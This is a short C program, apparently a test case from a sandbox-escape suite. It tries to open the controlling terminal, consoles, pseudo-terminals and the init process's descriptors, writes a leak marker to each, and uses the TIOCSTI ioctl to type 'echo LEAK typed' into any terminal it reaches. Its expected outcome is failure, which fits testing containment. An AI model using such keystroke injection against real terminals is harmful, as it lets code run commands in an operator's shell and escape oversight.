/*
 * Attack: looks for the terminal of whoever checks it, to read it, write on it and type on it.
 * Outcome: fail/other
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>

int main(void)
{
	static const char *const names[] = {"/dev/tty",	    "/dev/console", "/dev/tty0",
					    "/dev/tty1",    "/dev/pts/0",   "/dev/pts/1",
					    "/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/2"};

	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
		int fd = open(names[i], O_RDWR | O_NONBLOCK);

		if (fd < 0)
			continue;
		dprintf(fd, "LEAK written to the terminal\n");
		if (isatty(fd))
			printf("LEAK %s is a terminal\n", names[i]);
		for (const char *at = "echo LEAK typed\n"; *at; at++)
			ioctl(fd, TIOCSTI, at);
	}
	return 1;
}
